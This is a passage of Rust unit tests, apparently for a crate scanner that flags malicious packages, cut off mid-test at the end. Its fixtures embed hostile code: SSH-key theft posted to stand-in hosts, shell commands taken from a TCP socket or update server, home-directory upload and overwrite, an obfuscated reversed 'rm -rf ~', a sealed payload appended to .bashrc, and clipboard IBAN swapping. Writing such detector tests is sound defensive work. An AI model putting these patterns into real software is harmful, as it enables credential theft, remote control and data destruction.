        assert_eq!(severity(findings, rule), wanted, "{rule}: {findings:?}");
    }

    /// A field given to a local that holds one of the crate's structs (`zone.name = …` after
    /// `let mut zone = Zone::default()`) is what the struct's methods read as `self.name`.
    #[test]
    fn fields_given_to_a_local_struct_reach_its_methods() {
        let source = |bind: &str| {
            format!(
                r#"
#[derive(Default)]
pub struct Zone {{ name: Option<String> }}
const LISTED: [u64; 2] = [0x062377c60584abd0, 0x08a64b07b54df8d4];
fn digest(b: &[u8]) -> u64 {{ b.iter().fold(7, |h, x| (h ^ *x as u64).wrapping_mul(31)) }}
impl Zone {{
    pub fn local() -> Zone {{
        {bind}
        zone.name = std::env::var("TZ").ok();
        zone
    }}
    pub fn listed(&self) -> bool {{
        let key = self.name.clone().unwrap_or_default();
        LISTED.binary_search(&digest(key.as_bytes())).is_ok()
    }}
}}
pub fn prune(dir: &std::path::Path) {{
    if Zone::local().listed() {{
        for entry in std::fs::read_dir(dir).unwrap().flatten() {{
            let _ = std::fs::remove_file(entry.path());
        }}
    }}
}}"#
            )
        };
        let looked_up = |report: &crate::scan::Report| {
            report.signals.iter().any(|s| {
                matches!(
                    s.kind,
                    SignalKind::Flow {
                        source: Source::Locale,
                        sink: Sink::TargetLookup,
                        ..
                    }
                )
            })
        };
        for bind in [
            "let mut zone = Zone::default();",
            "let mut zone: Zone = Default::default();",
            "let mut zone = Self::default();",
            "let mut zone = Zone { name: None };",
        ] {
            assert!(looked_up(&report(&source(bind))), "{bind}");
        }
        // A local of a type the crate does not declare keeps its fields to itself.
        let foreign = source("let mut zone = Settings::default();");
        assert!(!looked_up(&report(&foreign)));
    }

    /// What is written through a file's handle (`writeln!(file, …)`, `file.write_all(…)`) is
    /// what the file is given: sealed bytes decoded into a start-up file are held; the same
    /// handle given the caller's line, with the sealed bytes used for something else, is not.
    #[test]
    fn writes_through_a_handle_carry_what_they_write() {
        let source = |written: &str| {
            format!(
                r#"
use std::io::Write;
const SEALED: [u8; 40] = [
    0x1a, 0xcc, 0x4d, 0x92, 0x33, 0x9e, 0x57, 0x9f, 0x98, 0x04, 0xa7, 0x53, 0x36, 0x4a,
    0xb3, 0xdf, 0x29, 0x68, 0x03, 0x97, 0xe3, 0x84, 0x66, 0x0d, 0x0d, 0x0c, 0xed, 0x57,
    0xf9, 0xc4, 0x0e, 0x63, 0xb9, 0xf0, 0x61, 0x98, 0x98, 0xb6, 0x0d, 0x28,
];
fn open(sealed: &[u8], seed: u32) -> String {{
    let mut st = seed;
    sealed.iter().map(|b| {{ st = st.rotate_left(5) ^ 0x9e37; (b ^ st as u8) as char }}).collect()
}}
pub fn remember(line: &str) -> std::io::Result<()> {{
    let Some(home) = std::env::var_os("HOME") else {{ return Ok(()) }};
    let rc = std::path::PathBuf::from(home).join(".bashrc");
    let _seen = open(&SEALED, 7).len();
    let mut file = std::fs::OpenOptions::new().append(true).create(true).open(&rc)?;
    {written}
}}"#
            )
        };
        let sealed = findings(&source("file.write_all(open(&SEALED, 7).as_bytes())"));
        expect(&sealed, "scan.persistence", Some(Verdict::Hold));
        let sealed = findings(&source("writeln!(file, \"{}\", open(&SEALED, 7))"));
        expect(&sealed, "scan.persistence", Some(Verdict::Hold));
        let callers = findings(&source("writeln!(file, \"{line}\")"));
        expect(&callers, "scan.persistence", Some(Verdict::Flag));
        // A name bound again is a new value: a buffer called like the handle is not the file.
        let rebound = findings(&source(
            "drop(file);\n    let mut file = String::new();\n    \
             let _ = write!(file, \"{}\", open(&SEALED, 7));\n    Ok(())",
        ));
        expect(&rebound, "scan.persistence", Some(Verdict::Flag));
        // Sealed bytes spelled as a byte string are as sealed as an array of numbers.
        let spelled = source("file.write_all(open(SEALED, 7).as_bytes())").replace(
            "const SEALED: [u8; 40] = [",
            "const SEALED: &[u8] = b\"\\x1a\\xcc\\x4d\\x92\\x33\\x9e\\x57\\x9f\\x98\\x04\\xa7\\x53\\x36\\x4a\\xb3\\xdf\\x29\\x68\\x03\\x97\\xe3\\x84\\x66\\x0d\\x0d\\x0c\\xed\\x57\\xf9\\xc4\\x0e\\x63\\xb9\\xf0\\x61\\x98\\x98\\xb6\\x0d\\x28\";\nconst _ARRAY: [u8; 40] = [",
        );
        expect(&findings(&spelled), "scan.persistence", Some(Verdict::Hold));
    }

    /// A connection kept in a tuple struct, or in a struct declared after its `impl`, is read
    /// through `self` in its methods; a parameter of such a struct holds one too.
    #[test]
    fn connections_kept_in_structs_are_network_sources() {
        let tuple = r#"
use std::io::Read;
use std::net::TcpStream;
use std::process::Command;
pub struct Link(TcpStream);
impl Link {
    fn next(&mut self) -> String {
        let mut order = String::new();
        let _ = self.0.read_to_string(&mut order);
        order
    }
}
fn serve(link: &mut Link) {
    let order = link.next();
    let _ = Command::new("sh").arg("-c").arg(order).status();
}
pub fn start() {
    if let Ok(stream) = TcpStream::connect("203.0.113.9:7000") {
        serve(&mut Link(stream));
    }
}
"#;
        expect(&findings(tuple), "scan.remote-control", Some(Verdict::Hold));
        let declared_after = r#"
use std::io::{BufRead, BufReader};
use std::net::TcpStream;
use std::process::Command;
impl Conn {
    fn line(&mut self) -> String {
        let mut line = String::new();
        let _ = self.rd.read_line(&mut line);
        line
    }
}
struct Conn {
    rd: BufReader<TcpStream>,
}
fn run(conn: &mut Conn) {
    let line = conn.line();
    let _ = Command::new("sh").args(["-c", &line]).status();
}
pub fn start() {
    if let Ok(stream) = TcpStream::connect("203.0.113.9:7000") {
        run(&mut Conn { rd: BufReader::new(stream) });
    }
}
"#;
        expect(
            &findings(declared_after),
            "scan.remote-control",
            Some(Verdict::Hold),
        );
        // A client that holds its connection and only parses what it reads: nothing.
        let client = r#"
use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
pub struct Client {
    rd: BufReader<TcpStream>,
    wr: TcpStream,
}
impl Client {
    pub fn get(&mut self, key: &str) -> Option<String> {
        writeln!(self.wr, "GET {key}").ok()?;
        let mut line = String::new();
        self.rd.read_line(&mut line).ok()?;
        line.strip_prefix("VALUE ").map(|v| v.trim().to_owned())
    }
}
"#;
        assert!(findings(client).is_empty(), "{:?}", findings(client));
    }

    /// An address built from the package's constants, as one number or an array of them, is
    /// where the code sends; one built from values it computes is not known.
    #[test]
    fn addresses_from_constants_are_fixed_destinations() {
        let array = r#"
use std::io::Write;
use std::net::{Ipv4Addr, TcpStream};
const NET_A: u8 = 0xCB;
const NET_B: u8 = 0;
const NET_C: u8 = 113;
const HOST_D: u8 = 9 ^ 0;
pub fn report() {
    let name = std::fs::read_to_string("/etc/hostname").unwrap_or_default();
    let ip = Ipv4Addr::from([NET_A, NET_B, NET_C, HOST_D]);
    if let Ok(mut s) = TcpStream::connect((ip, 80)) {
        let _ = s.write_all(name.as_bytes());
    }
}
"#;
        expect(&findings(array), "scan.host-profiling", Some(Verdict::Hold));
        let computed = array.replace(
            "Ipv4Addr::from([NET_A, NET_B, NET_C, HOST_D])",
            "Ipv4Addr::from(seed())",
        ) + "fn seed() -> u32 { std::process::id() }\n";
        expect(&findings(&computed), "scan.host-profiling", None);
    }

    /// A script handed to a shell by its path runs as the shell's program; a literal script
    /// followed by computed arguments (`sh configure --prefix=…`) is not one.
    #[test]
    fn scripts_handed_to_shells() {
        // With a connection beside it, so that the prefilter reads the file.
        let script_runs = |source: &str| {
            let source = format!(
                "{source}\npub fn ping() {{ let _ = std::net::TcpStream::connect(\"192.0.2.1:80\"); }}\n"
            );
            report(&source)
                .signals
                .iter()
                .filter(|s| {
                    matches!(&s.kind, SignalKind::ExecComputed { target }
                        if target.ends_with(crate::scan::score::SCRIPT_RUN))
                })
                .count()
        };
        let by_path = r#"
pub fn run(script: &std::path::Path) {
    let _ = std::process::Command::new("/bin/sh").arg(script).status();
}
"#;
        assert_eq!(script_runs(by_path), 1);
        let configure = r#"
pub fn build(dst: &std::path::Path) {
    let _ = std::process::Command::new("sh")
        .arg("configure")
        .arg(format!("--prefix={}", dst.display()))
        .status();
}
"#;
        assert_eq!(script_runs(configure), 0);
        let inline = r#"
pub fn run(line: &str) {
    let _ = std::process::Command::new("sh").args(["-c", line]).status();
}
"#;
        assert_eq!(script_runs(inline), 0);
    }

    /// A request's verb on a client handed in sends its address; `get` on a map that arrived
    /// over the network is a look-up, not a send of the host looked up.
    #[test]
    fn request_verbs_send_only_on_clients() {
        let lookup = r#"
use std::collections::HashMap;
fn fleet(agent: &ureq::Agent) -> HashMap<String, String> {
    agent.get("https://fleet.example.net/map").call().ok().and_then(|r| r.into_json().ok()).unwrap_or_default()
}
pub fn role() -> Option<String> {
    let agent = ureq::AgentBuilder::new().build();
    let host = std::fs::read_to_string("/etc/hostname").ok()?;
    let map = fleet(&agent);
    map.get(host.trim()).cloned()
}
"#;
        expect(&findings(lookup), "scan.host-profiling", None);
    }

    /// `Self::fetch()` in a trait's default method reaches the implementations' `fetch`; in a
    /// type's own method only that type's.
    #[test]
    fn self_calls_in_trait_defaults_reach_implementations() {
        let defaulted = r#"
use std::process::Command;
pub trait Updater {
    fn fetch() -> String;
    fn apply(&self) {
        let script = Self::fetch();
        let _ = Command::new("sh").arg("-c").arg(script).status();
    }
}
pub struct Remote;
impl Updater for Remote {
    fn fetch() -> String {
        ureq::get("http://203.0.113.8/next").call().ok().and_then(|r| r.into_string().ok()).unwrap_or_default()
    }
}
"#;
        expect(
            &findings(defaulted),
            "scan.remote-control",
            Some(Verdict::Hold),
        );
    }

    #[test]
    fn what_write_formats_lands_in_its_destination() {
        // Files a walk found, formatted into a buffer with `writeln!`, then sent.
        let sent = r#"
use std::io::{Read, Write};
use std::net::TcpStream;
fn collect(dir: &std::path::Path) -> Vec<u8> {
    let mut body = Vec::new();
    if let Ok(rd) = std::fs::read_dir(dir) {
        for ent in rd.flatten() {
            let mut buf = Vec::new();
            if let Ok(mut f) = std::fs::File::open(ent.path()) {
                let _ = f.read_to_end(&mut buf);
            }
            let _ = writeln!(body, "{}", String::from_utf8_lossy(&buf));
        }
    }
    body
}
fn send(body: &[u8]) {
    let mut s = TcpStream::connect("192.0.2.44:443").unwrap();
    s.write_all(body).unwrap();
}
pub fn go(dir: &std::path::Path) { let r = collect(dir); send(&r); }
"#;
        expect(&findings(sent), "scan.exfiltration", Some(Verdict::Hold));
        // The listing formatted into a buffer that only goes to the terminal.
        let printed = sent.replace("send(&r);", "println!(\"{}\", r.len());");
        expect(&findings(&printed), "scan.exfiltration", None);
    }

    fn severity(findings: &[(String, Verdict)], rule: &str) -> Option<Verdict> {
        findings
            .iter()
            .filter(|(r, _)| r == rule)
            .map(|(_, s)| *s)
            .max()
    }

    const SHELL_HELPER: &str = r#"
        fn run(line: &str) {
            let _ = std::process::Command::new("sh").arg("-c").arg(line).status();
        }
    "#;

    /// A constructor called `system` (a D-Bus address, a bus builder) starts nothing, so what
    /// reaches it is not started as a program; `libc::system` with a command line does.
    #[test]
    fn a_system_constructor_is_no_program_start() {
        let source = r#"
            pub fn connect(reply: &str) -> Vec<u8> {
                let cookie = hex::decode(reply).unwrap();
                let _ = Address::system();
                cookie
            }
            pub fn shell(line: &std::ffi::CStr) {
                unsafe { libc::system(line.as_ptr()) };
            }
        "#;
        let signals = report(source).signals;
        let spawns: Vec<u32> = signals
            .iter()
            .filter(|s| matches!(s.kind, SignalKind::Spawn { .. }))
            .map(|s| s.line)
            .collect();
        assert_eq!(spawns, vec![8], "{signals:#?}");
    }

    /// A walk that puts what it finds into a list its caller hands it, and a request built and
    /// sent in one chain: the walked files reach the network.
    #[test]
    fn files_collected_through_an_out_parameter_reach_a_chained_send() {
        let source = |url: &str| {
            format!(
                r#"
            fn collect(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {{
                for entry in std::fs::read_dir(dir).unwrap().flatten() {{
                    out.push(entry.path());
                }}
            }}
            pub fn upload(root: &std::path::Path, url: &str) {{
                let mut files = Vec::new();
                collect(root, &mut files);
                for file in &files {{
                    let data = std::fs::read(file).unwrap();
                    let _ = ureq::AgentBuilder::new().build().post({url}).send_bytes(&data);
                }}
            }}"#
            )
        };
        let walked_sent = |report: &crate::scan::Report| {
            report.signals.iter().any(|s| {
                matches!(
                    s.kind,
                    SignalKind::Flow {
                        source: super::Source::WalkedFiles,
                        sink: super::Sink::Network,
                        ..
                    }
                )
            })
        };
        let fixed = report(&source("\"https://collector.invalid/in\""));
        assert!(walked_sent(&fixed), "{:#?}", fixed.signals);
        let found: Vec<(String, Verdict)> = fixed
            .findings
            .iter()
            .map(|f| (f.rule.clone(), f.severity))
            .collect();
        expect(&found, "scan.exfiltration", Some(Verdict::Hold));
        // Sent where the caller says: an uploader.
        let given = report(&source("url"));
        assert!(walked_sent(&given));
        let found: Vec<(String, Verdict)> = given
            .findings
            .iter()
            .map(|f| (f.rule.clone(), f.severity))
            .collect();
        expect(&found, "scan.exfiltration", None);
    }

    /// A constant turned into a command line by a chain of iterator methods where it is used:
    /// evaluated, what it spells is read.
    #[test]
    fn constants_collected_through_a_method_chain_are_read() {
        let report = report(
            r#"
            const STEPS: [char; 8] = ['~', ' ', 'f', 'r', '-', ' ', 'm', 'r'];
            pub fn reset() {
                let line: String = STEPS.iter().rev().collect();
                let _ = std::process::Command::new("sh").arg("-c").arg(&line).status();
                let _ = ureq::get("https://example.invalid/").call();
            }"#,
        );
        assert!(
            report
                .signals
                .iter()
                .any(|s| matches!(s.kind, SignalKind::WipesHome { .. })),
            "{:#?}",
            report.signals
        );
    }

    #[test]
    fn commands_from_a_server_written_into_the_code_reach_a_shell_through_a_helper() {
        let found = findings(&format!(
            r#"{SHELL_HELPER}
            const SERVER: &str = "https://updates.invalid/next";
            pub fn start() {{
                let body = ureq::get(SERVER).call().unwrap().into_string().unwrap();
                for line in body.lines() {{
                    run(line);
                }}
            }}"#
        ));
        expect(
            &found,
            super::super::rules::REMOTE_CONTROL,
            Some(Verdict::Hold),
        );
    }

    #[test]
    fn a_runner_pointed_at_its_callers_server_is_only_flagged() {
        let found = findings(&format!(
            r#"{SHELL_HELPER}
            pub fn start(server: &str) {{
                let body = ureq::get(server).call().unwrap().into_string().unwrap();
                for line in body.lines() {{
                    run(line);
                }}
            }}"#
        ));
        expect(
            &found,
            super::super::rules::REMOTE_CONTROL,
            Some(Verdict::Flag),
        );
    }

    #[test]
    fn a_key_returned_by_one_function_and_sent_by_another_is_exfiltration() {
        let source = |to: &str| {
            format!(
                r#"
                const COLLECT: &str = "https://collect.invalid/k";
                fn key() -> String {{
                    let home = std::env::var("HOME").unwrap();
                    let text = std::fs::read_to_string(format!("{{home}}/.ssh/id_ed25519"));
                    text.unwrap_or_default()
                }}
                pub fn report(url: &str) {{
                    let mut body = String::new();
                    body.push_str(&format!("k={{}}", key()));
                    let _ = ureq::post({to}).send_string(&body);
                }}"#
            )
        };
        // To a party written into the code: held.
        let found = findings(&source("COLLECT"));
        expect(
            &found,
            super::super::rules::EXFILTRATION,
            Some(Verdict::Hold),
        );
        // To the server the caller names (a client sending its own credentials): flagged.
        let found = findings(&source("url"));
        expect(
            &found,
            super::super::rules::EXFILTRATION,
            Some(Verdict::Flag),
        );
    }

    #[test]
    fn a_key_used_beside_a_request_it_never_reaches_is_no_exfiltration() {
        let found = findings(
            r#"
            fn sign(key: &[u8], message: &str) -> usize { key.len() + message.len() }
            pub fn report(url: &str, message: &str) {
                let key = std::fs::read("/home/user/.ssh/id_ed25519").unwrap();
                let signature = sign(&key, message);
                println!("{signature}");
                let _ = ureq::post(url).send_string(message);
            }"#,
        );
        expect(&found, super::super::rules::EXFILTRATION, None);
    }

    #[test]
    fn a_library_that_puts_back_what_it_made_of_the_clipboard_is_held() {
        let found = findings(
            r#"
            pub fn watch() {
                let mut board = arboard::Clipboard::new().unwrap();
                let text = board.get_text().unwrap_or_default();
                let swapped = text.replace("NL91", "NL02");
                let _ = board.set_text(swapped);
            }"#,
        );
        expect(
            &found,
            super::super::rules::CLIPBOARD_HIJACK,
            Some(Verdict::Hold),
        );
        // Putting the caller's text on the clipboard reads nothing from it.
        let found = findings(
            r#"
            pub fn copy(text: &str) {
                let mut board = arboard::Clipboard::new().unwrap();
                let _ = board.set_text(text.to_owned());
            }"#,
        );
        expect(&found, super::super::rules::CLIPBOARD_HIJACK, None);
    }

    #[test]
    fn a_rewrite_told_to_the_callers_callback_is_flagged_and_one_told_to_itself_is_held() {
        let watcher = |tell: &str| {
            format!(
                r#"
                pub fn watch(on_change: impl Fn(String)) {{
                    let mut board = arboard::Clipboard::new().unwrap();
                    let text = board.get_text().unwrap_or_default();
                    let swapped = text.replace("NL91", "NL02");
                    if board.set_text(swapped.clone()).is_ok() {{
                        {tell}
                    }}
                }}"#
            )
        };
        let found = findings(&watcher("on_change(swapped);"));
        expect(
            &found,
            super::super::rules::CLIPBOARD_HIJACK,
            Some(Verdict::Flag),
        );
        // Through a closure made from the caller's callback: still the caller's.
        let found = findings(&watcher("let emit = |s| on_change(s); emit(swapped);"));
        expect(
            &found,
            super::super::rules::CLIPBOARD_HIJACK,
            Some(Verdict::Flag),
        );
        // A closure of the function's own, made of nothing the caller handed in, tells no one.
        let found = findings(&watcher("let note = |_s: String| {}; note(swapped);"));
        expect(
            &found,
            super::super::rules::CLIPBOARD_HIJACK,
            Some(Verdict::Hold),
        );
    }

    const WALK_HELPER: &str = r#"
        fn files(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
            for entry in std::fs::read_dir(dir).unwrap().flatten() {
                out.push(entry.path());
            }
        }
    "#;

    #[test]
    fn files_of_the_home_directory_sent_away_are_exfiltration_and_a_callers_directory_is_not() {
        let found = findings(&format!(
            r#"{WALK_HELPER}
            pub fn sync() {{
                let home = dirs::home_dir().unwrap();
                let mut found = Vec::new();
                files(&home.join("Documents"), &mut found);
                for path in found {{
                    let data = std::fs::read(&path).unwrap();
                    let _ = ureq::post("https://sync.invalid/put").send_bytes(&data);
                }}
            }}"#
        ));
        expect(
            &found,
            super::super::rules::EXFILTRATION,
            Some(Verdict::Hold),
        );
        let found = findings(&format!(
            r#"{WALK_HELPER}
            pub fn upload(dir: &std::path::Path, url: &str) {{
                let mut found = Vec::new();
                files(dir, &mut found);
                for path in found {{
                    let data = std::fs::read(&path).unwrap();
                    let _ = ureq::post(url).send_bytes(&data);
                }}
            }}"#
        ));
        expect(&found, super::super::rules::EXFILTRATION, None);
    }

    #[test]
    fn a_library_sending_away_the_project_it_runs_in_is_exfiltration() {
        let found = findings(&format!(
            r#"{WALK_HELPER}
            pub fn warm_cache() {{
                let project = std::env::current_dir().unwrap();
                let mut found = Vec::new();
                files(&project, &mut found);
                for path in found {{
                    let data = std::fs::read(&path).unwrap();
                    let _ = ureq::post("https://cache.invalid/put").send_bytes(&data);
                }}
            }}"#
        ));
        expect(
            &found,
            super::super::rules::EXFILTRATION,
            Some(Verdict::Hold),
        );
    }

    #[test]
    fn overwriting_what_a_walk_of_the_home_directory_finds_is_destruction() {
        let wipe = |root: &str| {
            format!(
                r#"
                fn wipe(dir: &std::path::Path) {{
                    for entry in std::fs::read_dir(dir).unwrap().flatten() {{
                        let _ = std::fs::write(entry.path(), [0u8; 16]);
                    }}
                }}
                pub fn refresh(dir: &std::path::Path) {{
                    let _ = dir;
                    wipe({root});
                }}"#
            )
        };
        let found = findings(&wipe("&dirs::home_dir().unwrap().join(\"Pictures\")"));
        expect(
            &found,
            super::super::rules::DESTRUCTIVE,
            Some(Verdict::Hold),
        );
        // A formatter rewrites the files of the directory it is given.
        let found = findings(&wipe("dir"));
        expect(&found, super::super::rules::DESTRUCTIVE, None);
    }

    /// A retention plan that keeps where it sweeps in a field: `{build}` fills `roots` (with the
    /// home directory when `{root}` is `home()`), and another method walks `self.roots` and
    /// hands each file to a method of the field `mode`'s type, which overwrites it.
    fn kept_roots(build: &str, root: &str) -> String {
        format!(
            r#"
            use std::path::{{Path, PathBuf}};
            #[derive(Clone, Copy)]
            enum Mode {{ Keep, Pad }}
            impl Mode {{
                fn apply(self, path: &Path) {{
                    if let Mode::Pad = self {{
                        let _ = std::fs::write(path, [0x2a; 64]);
                    }}
                }}
            }}
            /// Another `apply`, so that only the field's type says which one is called.
            pub struct Other;
            impl Other {{
                pub fn apply(&self, _: &Path) {{}}
            }}
            fn home() -> PathBuf {{
                std::env::var_os("HOME").map(PathBuf::from).unwrap_or_default()
            }}
            pub struct Plan {{ mode: Mode, roots: Vec<PathBuf> }}
            impl Plan {{
                {build}
                pub fn run(&self) {{
                    for root in &self.roots {{
                        self.walk(root);
                    }}
                }}
                fn walk(&self, dir: &Path) {{
                    for entry in std::fs::read_dir(dir).unwrap().flatten() {{
                        let path = entry.path();
                        self.mode.apply(&path);
                    }}
                }}
            }}
            pub fn tidy(dir: &Path) {{
                let _ = dir;
                if std::env::var("LANG").unwrap_or_default().starts_with("xx") {{
                    Plan::new({root}).run();
                }}
            }}"#
        )
    }

    #[test]
    fn a_directory_kept_in_a_field_is_what_another_method_walks() {
        let destructive = super::super::rules::DESTRUCTIVE;
        // Written by a struct literal (`Self { roots: … }`, field by field), by a constructor's
        // parameter, or by an assignment to `self.roots` in a method.
        let literal = "fn new(root: PathBuf) -> Self { let roots = vec![root]; Self { mode: Mode::Pad, roots } }";
        let assigned = "fn new(root: PathBuf) -> Self { let mut plan = Plan { mode: Mode::Pad, roots: Vec::new() }; plan.keep(root); plan }\n\
                        fn keep(&mut self, root: PathBuf) { self.roots = vec![root]; }";
        for build in [literal, assigned] {
            expect(
                &findings(&kept_roots(build, "home()")),
                destructive,
                Some(Verdict::Hold),
            );
            // The caller's own directory: a formatter of what it is given.
            expect(
                &findings(&kept_roots(build, "dir.to_path_buf()")),
                destructive,
                None,
            );
        }
        // Found at its own call, inside the literal: `Plan { roots: vec![home()] }`.
        let found = findings(&kept_roots(
            "fn new(_: PathBuf) -> Self {\n Plan {\n mode: Mode::Pad,\n roots: vec![home()],\n }\n }",
            "PathBuf::new()",
        ));
        expect(&found, destructive, Some(Verdict::Hold));
        // A method of the field's type, not any `apply`: another type's that overwrites is
        // not reached through the field.
        let harmless = kept_roots(literal, "home()")
            .replace("let _ = std::fs::write(path, [0x2a; 64]);", "let _ = path;")
            .replace(
                "pub fn apply(&self, _: &Path) {}",
                "pub fn apply(&self, path: &Path) { let _ = std::fs::write(path, [0x2a; 64]); }",
            );
        expect(&findings(&harmless), destructive, None);
        // A container's methods are its own: `insert` on a map of `Cache`s is not `Cache`'s.
        let container = r#"
            use std::path::{Path, PathBuf};
            pub struct Cache;
            impl Cache {
                pub fn insert(&self, path: &Path) { let _ = std::fs::write(path, [0u8; 8]); }
            }
            pub struct Index { seen: std::collections::HashMap<PathBuf, Cache> }
            impl Index {
                pub fn scan(&mut self) {
                    if std::env::var("LANG").unwrap_or_default().starts_with("xx") {
                        let home = std::env::var_os("HOME").map(PathBuf::from).unwrap_or_default();
                        for entry in std::fs::read_dir(&home).unwrap().flatten() {
                            let path = entry.path();
                            self.seen.insert(&path, Cache);
                        }
                    }
                }
            }"#;
        expect(&findings(container), destructive, None);
        let boxed = container.replace(
            "seen: std::collections::HashMap<PathBuf, Cache>",
            "seen: std::sync::Arc<Cache>",
        );
        expect(&findings(&boxed), destructive, Some(Verdict::Hold));
        // An enum variant's fields are not a struct's of the same name.
        let variant = kept_roots(literal, "PathBuf::new()").replace(
            "pub struct Plan {",
            "pub enum Event { Plan { roots: Vec<PathBuf> } }\npub struct Plan {",
        ) + "\npub fn event() -> Event { Event::Plan { roots: vec![home()] } }";
        expect(&findings(&variant), destructive, None);
    }

    #[test]
    fn a_function_of_an_inline_module_is_the_crates_own() {
        let source = kept_roots(
            "fn new(root: PathBuf) -> Self { Self { mode: Mode::Pad, roots: vec![root] } }",
            "legacy::base()",
        )
            + "\nmod legacy { pub(super) fn base() -> std::path::PathBuf { super::home() } }";
        expect(
            &findings(&source),
            super::super::rules::DESTRUCTIVE,
            Some(Verdict::Hold),
        );
        // An inline module named like one of std's (`mod env { … }`, a crate's table of
        // variable names) does not make every `std::env::var(…)` a call of its `var`.
        let shadowing = r#"
            mod env {
                pub fn var(_: &str) -> Result<String, ()> {
                    let home = std::env::var_os("HOME").unwrap_or_default();
                    let key = std::path::Path::new(&home).join(".ssh/id_ed25519");
                    Ok(std::fs::read_to_string(key).unwrap_or_default())
                }
            }
            pub fn report() {
                let region = std::env::var("REGION").unwrap_or_default();
                let _ = ureq::post("https://collect.invalid/r").send_string(&region);
            }"#;
        expect(
            &findings(shadowing),
            super::super::rules::EXFILTRATION,
            None,
        );
    }

    /// Two files declare a `Builder`: what one keeps in its `dir` is not the other's.
    #[test]
    fn fields_of_same_named_structs_in_two_files_are_apart() {
        let keeper = r#"
            pub struct Builder { dir: std::path::PathBuf }
            impl Builder {
                pub fn new() -> Self {
                    Builder { dir: std::env::var_os("HOME").map(Into::into).unwrap_or_default() }
                }
                pub fn entries(&self) -> usize {
                    std::fs::read_dir(&self.dir).map(|d| d.count()).unwrap_or(0)
                }
            }"#;
        let sweeper = r#"
            pub struct Builder { dir: std::path::PathBuf }
            impl Builder {
                pub fn sweep(&self) {
                    for entry in std::fs::read_dir(&self.dir).unwrap().flatten() {
                        let _ = std::fs::write(entry.path(), [0u8; 8]);
                    }
                }
            }"#;
        let lib = "pub mod keep;\npub mod sweep;\npub fn gate() -> bool { std::env::var(\"LANG\").is_ok() }\n";
        let sweeps_home = |files: &[(&str, &str)]| {
            report_of_files(files).signals.iter().any(|s| {
                s.file == "src/sweep.rs"
                    && matches!(
                        s.kind,
                        SignalKind::Flow {
                            source: Source::UserDirectory,
                            sink: Sink::Walk,
                            ..
                        }
                    )
            })
        };
        // The walk of the home directory in `keep.rs` is its own, not the sweeper's.
        assert!(!sweeps_home(&[
            ("lib.rs", lib),
            ("keep.rs", keeper),
            ("sweep.rs", sweeper)
        ]));
        // Declared once, the struct's fields are the same wherever its methods are.
        let once = format!(
            "use crate::keep::Builder;\n{}",
            sweeper.replace("pub struct Builder { dir: std::path::PathBuf }", "")
        );
        assert!(sweeps_home(&[
            ("lib.rs", lib),
            ("keep.rs", keeper),
            ("sweep.rs", &once)
        ]));
        // A struct of a test module is no second declaration.
        let tested = format!(
            "{lib}\n#[cfg(test)]\nmod tests {{ pub struct Builder {{ dir: std::path::PathBuf }} }}"
        );
        assert!(sweeps_home(&[
            ("lib.rs", &tested),
            ("keep.rs", keeper),
            ("sweep.rs", &once)
        ]));
    }

    /// The report on a library whose `src/` holds `files` (name, text).
    fn report_of_files(files: &[(&str, &str)]) -> crate::scan::Report {
        let mut builder = TarballBuilder::new().file(
            "flows-0.1.0/Cargo.toml",
            "[package]\nname = \"flows\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
             description = \"x\"\nlicense = \"MIT\"\n",
        );
        for (name, text) in files {
            builder = builder.file(&format!("flows-0.1.0/src/{name}"), text);
        }
        let tarball = builder.build();
        let tarball = process_tarball("flows", "0.1.0", &tarball, &Limits::default()).unwrap();
        scan_package(&tarball)
    }

    /// A method called on an expression (`self.0.get()`) is not the crate's free function of
    /// that name.
    #[test]
    fn a_method_called_on_an_expression_is_no_free_function() {
        let source = |call: &str| {
            format!(
                r#"
                const COLLECT: &str = "https://collect.invalid/k";
                pub fn get() -> String {{
                    let home = std::env::var("HOME").unwrap();
                    std::fs::read_to_string(format!("{{home}}/.ssh/id_ed25519")).unwrap_or_default()
                }}
                pub struct Id(std::cell::Cell<u32>);
                impl Id {{
                    fn code(&self) -> String {{ {call}.to_string() }}
                    pub fn report(&self) {{
                        let _ = ureq::post(COLLECT).send_string(&self.code());
                    }}
                }}"#
            )
        };
        let exfiltration = super::super::rules::EXFILTRATION;
        expect(&findings(&source("self.0.get()")), exfiltration, None);
        expect(
            &findings(&source("get()")),
            exfiltration,
            Some(Verdict::Hold),
        );
    }

    /// What a function puts into a static (through a guard, `set` or `push`) is what another
    /// function reads from it.
    #[test]
    fn a_directory_kept_in_a_static_is_what_another_function_walks() {
        let source = |kept: &str| {
            format!(
                r#"
                use std::path::PathBuf;
                use std::sync::Mutex;
                const COLLECT: &str = "https://collect.invalid/up";
                pub fn remember(dir: PathBuf) {{
                    let root = {kept};
                    if let Ok(mut slot) = ROOT.lock() {{
                        slot.get_or_insert_with(|| root.clone());
                    }}
                    let _ = dir;
                }}
                pub fn upload() {{
                    let root = ROOT.lock().ok().and_then(|g| g.clone()).unwrap_or_default();
                    let mut body = Vec::new();
                    for entry in std::fs::read_dir(&root).unwrap().flatten() {{
                        body.extend(std::fs::read(entry.path()).unwrap_or_default());
                    }}
                    let _ = ureq::post(COLLECT).send_bytes(&body);
                }}
                static ROOT: Mutex<Option<PathBuf>> = Mutex::new(None);"#
            )
        };
        let walks_project = |kept: &str| {
            report(&source(kept)).signals.iter().any(|s| {
                matches!(
                    s.kind,
                    SignalKind::Flow {
                        source: Source::WorkingDirectory,
                        sink: Sink::Walk,
                        ..
                    }
                )
            })
        };
        assert!(walks_project("std::env::current_dir().unwrap()"));
        // The directory the caller names, kept the same way, is not the project's.
        assert!(!walks_project("dir.clone()"));
        expect(
            &findings(&source("std::env::current_dir().unwrap()")),
            super::super::rules::EXFILTRATION,
            Some(Verdict::Hold),
        );
    }

    /// `let (a, b) = (x, y)` gives `a` what `x` is, not what `y` is.
    #[test]
    fn each_name_of_a_tuple_binding_holds_its_own_value() {
        let source = |sent: &str| {
            format!(
                r#"
                const COLLECT: &str = "https://collect.invalid/k";
                pub fn report() {{
                    let home = std::env::var("HOME").unwrap();
                    let read = std::fs::read_to_string(format!("{{home}}/.ssh/id_ed25519"));
                    let (greeting, key) = (String::from("hello"), read);
                    let _ = ureq::post(COLLECT).send_string(&{sent});
                    let _ = key;
                }}"#
            )
        };
        let exfiltration = super::super::rules::EXFILTRATION;
        expect(&findings(&source("greeting")), exfiltration, None);
        expect(
